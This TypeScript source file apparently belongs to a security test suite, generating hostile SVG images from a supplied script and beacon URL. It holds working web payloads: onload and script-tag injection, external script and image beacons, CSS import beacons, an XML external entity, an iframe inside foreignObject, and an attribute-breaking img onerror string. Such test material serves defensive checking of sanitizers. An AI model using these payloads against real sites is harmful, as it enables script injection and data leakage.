import type { Trap } from '../hostile.js';

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"';

/** Pictures that are programs. */
export const svgPayloads: Record<string, (trap: Trap) => string> = {
  'svg-script': ({ script }) =>
    `<svg ${SVG} onload="${script}"><script>${script}</script><script type="text/ecmascript"><![CDATA[${script}]]></script></svg>`,
  'svg-script-href': ({ beacon }) => `<svg ${SVG}><script xlink:href="${beacon}"/><script href="${beacon}"/></svg>`,
  'svg-image': ({ beacon }) =>
    `<svg ${SVG}><image xlink:href="${beacon}" width="9" height="9"/><feImage href="${beacon}"/><use href="${beacon}#a"/></svg>`,
  'svg-css': ({ beacon }) =>
    `<?xml-stylesheet href="${beacon}"?><svg ${SVG}><style>@import url(${beacon}); *{fill:url(${beacon})} @font-face{font-family:a;src:url(${beacon})}</style><text style="font-family:a">x</text></svg>`,
  'svg-entity': ({ beacon, script }) =>
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${beacon}"><!ENTITY y "<script>${script}</script>">]><svg ${SVG}>&x;&y;</svg>`,
  'svg-html': ({ beacon, script }) =>
    `<svg ${SVG}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${beacon}" onload="${script}"/></foreignObject></svg>`,
  'svg-break': ({ script }) => `<svg ${SVG}"></svg>"><img src=x onerror=${script}><svg></svg>`
};
